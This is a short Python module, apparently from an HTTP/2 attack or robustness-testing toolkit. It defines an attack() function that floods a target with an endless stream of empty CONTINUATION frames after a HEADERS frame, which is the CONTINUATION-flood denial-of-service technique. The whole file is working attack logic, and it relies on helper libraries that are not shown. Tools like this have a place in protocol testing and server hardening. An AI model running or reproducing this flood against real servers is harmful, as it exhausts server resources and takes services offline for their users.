# SPDX-License-Identifier: Apache-2.0
"""A header that goes on and on in CONTINUATION frames, empty ones."""
import itertools

from lib.flood import headers, request_block
from lib.http2 import CONTINUATION, frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(CONTINUATION, 0, 1) * 100), headers(1, request_block(), 0))
